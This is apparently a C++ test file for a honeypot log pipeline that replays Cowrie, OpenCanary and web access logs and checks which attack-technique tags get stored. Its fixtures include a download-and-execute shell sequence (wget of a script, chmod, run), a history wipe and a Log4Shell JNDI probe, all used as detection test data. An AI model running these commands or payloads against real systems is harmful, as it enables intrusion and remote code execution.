// What is stored besides commands, from log lines to stored tags.
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <memory>

#include "decnet/attack/catalogue.h"
#include "decnet/importers/access_log.h"
#include "decnet/importers/cowrie.h"
#include "decnet/importers/opencanary.h"
#include "decnet/pipeline/replay.h"
#include "decnet/rules/loader.h"
#include "decnet/rules/rule_set.h"
#include "tests/sqlite_file.h"
#include "tests/test_main.h"

namespace decnet::pipeline {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;
using testing::IsSupersetOf;
using testing::Not;
using testing::SizeIs;

std::shared_ptr<const rules::RuleSet> shipped_rules() {
  static const auto kRules = [] {
    auto loaded = rules::load_directory(test::source_dir() / "rules" / "ttp");
    return rules::RuleSet::compile(std::move(loaded.rules), *attack::Catalogue::built_in()).rules;
  }();
  return kRules;
}

class ReplayActivity : public testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(storage::init_sqlite(path_));
    source_ = open();
    store_ = open();
  }
  std::unique_ptr<storage::Database> open() const {
    return storage::open_sqlite(path_, storage::OpenMode::kExisting).value();
  }
  void import(const importers::LineReader& read, const std::vector<std::string>& lines) {
    importers::ObservationBatch batch;
    for (const auto& line : lines) ASSERT_TRUE(read(line, batch)) << line;
    ASSERT_TRUE(source_->observations().merge(batch.observations()));
  }
  ReplayCounters replay(const ReplayOptions& options = {}) {
    return replay_activity(*source_, tagger_, store_.get(), options).value();
  }
  // "<rule> <kind>" of each tag.
  std::vector<std::string> tags() const {
    std::vector<std::string> found;
    for (const auto& row : test::SqliteFile(path_).rows(
             "SELECT DISTINCT rule_id || ' ' || source_kind FROM ttp_tag ORDER BY 1")) {
      found.push_back(row[0]);
    }
    return found;
  }

  test::TempDir directory_;
  std::filesystem::path path_ = directory_.path() / "decnet.db";
  std::unique_ptr<storage::Database> source_;
  std::unique_ptr<storage::Database> store_;
  tagging::Tagger tagger_{shipped_rules(), system_clock()};
};

std::string cowrie(int second, std::string_view event, std::string_view members) {
  return fmt::format(
      R"({{"eventid":"cowrie.{}","src_ip":"192.0.2.7","session":"s1","sensor":"trap",)"
      R"("timestamp":"2026-03-05T10:00:{:02}Z",{}}})",
      event, second, members);
}

TEST_F(ReplayActivity, ASessionIsTaggedByWhatItDidInOrder) {
  import(importers::cowrie_reader(),
         {cowrie(0, "session.connect", R"("protocol":"ssh")"),
          cowrie(1, "login.failed", R"("username":"root","password":"a")"),
          cowrie(2, "login.failed", R"("username":"root","password":"b")"),
          cowrie(3, "login.failed", R"("username":"root","password":"c")"),
          cowrie(4, "login.success", R"("username":"root","password":"d")"),
          cowrie(5, "command.input", R"("input":"uname -a")"),
          cowrie(6, "command.input", R"("input":"wget http://192.0.2.5/a.sh")"),
          cowrie(7, "session.file_download", R"("url":"http://192.0.2.5/a.sh","shasum":"ab")"),
          cowrie(8, "command.input", R"("input":"chmod 755 a.sh; ./a.sh")")});
  const auto counters = replay();
  EXPECT_GT(counters.inserted, 0U);
  EXPECT_THAT(tags(), IsSupersetOf({"R1600 session", "R1601 session", "R1619 payload"}));
  const auto again = replay();
  EXPECT_EQ(again.inserted, 0U);
  EXPECT_EQ(again.tags, counters.tags);
}

// Summaries and charts go by when things happened, which the replay of an old log is not.
TEST_F(ReplayActivity, ASessionIsAsOldAsItsLastCommand) {
  import(importers::cowrie_reader(),
         {cowrie(6, "command.input", R"("input":"wget http://192.0.2.5/a.sh")"),
          cowrie(8, "command.input", R"("input":"chmod 755 a.sh; ./a.sh")"),
          cowrie(7, "command.input", R"("input":"history -c")")});
  replay();
  const auto times = test::SqliteFile(path_).rows(
      "SELECT DISTINCT json_extract(evidence, '$.ts') FROM ttp_tag WHERE source_kind = 'session'");
  ASSERT_THAT(times, SizeIs(1));
  EXPECT_THAT(times[0], ElementsAre("2026-03-05T10:00:08+00:00"));
}

TEST_F(ReplayActivity, OfADecoyEveryContactIsAnEvent) {
  import(importers::opencanary_reader(),
         {R"({"logtype":5001,"node_id":"attic","src_host":"192.0.2.7",)"
          R"("utc_time":"2026-03-05 10:00:00.000000","logdata":{}})",
          R"({"logtype":4002,"node_id":"attic","src_host":"192.0.2.7",)"
          R"("utc_time":"2026-03-05 10:00:01.000000","logdata":{"USERNAME":"a","PASSWORD":"b"}})"});
  replay();
  EXPECT_THAT(tags(), IsSupersetOf({"R1610 session", "R1611 session"}));
}

TEST_F(ReplayActivity, OfAWebServerEveryRequestIsAnEvent) {
  import(
      importers::access_log_reader("web-1"),
      {R"(192.0.2.7 - - [05/Mar/2026:10:11:12 +0000] "GET /?x=${jndi:ldap://a.example/x} HTTP/1.1" 404 9)",
       R"(192.0.2.7 - - [05/Mar/2026:10:11:13 +0000] "GET / HTTP/1.1" 200 9 "-" "sqlmap/1.7")"});
  replay();
  EXPECT_THAT(tags(), IsSupersetOf({"R0007 http_request", "R0008 http_request"}));
}

TEST_F(ReplayActivity, WhatIsOlderIsLeftOut) {
  import(importers::access_log_reader("web-1"),
         {R"(192.0.2.7 - - [05/Mar/2026:10:11:13 +0000] "GET / HTTP/1.1" 200 9 "-" "sqlmap/1.7")"});
  import(importers::cowrie_reader(),
         {cowrie(1, "login.failed", R"("username":"root","password":"a")")});
  const auto counters = replay({.since = parse_time("2026-03-06 00:00:00").value()});
  EXPECT_EQ(counters.events, 0U);
  EXPECT_THAT(tags(), IsEmpty());
}

TEST_F(ReplayActivity, ADryRunStoresNothing) {
  import(importers::cowrie_reader(),
         {cowrie(1, "login.failed", R"("username":"root","password":"a")")});
  const auto counters = replay_activity(*source_, tagger_, nullptr, {}).value();
  EXPECT_GT(counters.events, 0U);
  EXPECT_THAT(tags(), IsEmpty());
}

TEST_F(ReplayActivity, StopsWhenAsked) {
  import(importers::cowrie_reader(),
         {cowrie(1, "login.failed", R"("username":"root","password":"a")")});
  EXPECT_TRUE(replay({.stop = [] { return true; }}).interrupted);
}

}  // namespace
}  // namespace decnet::pipeline
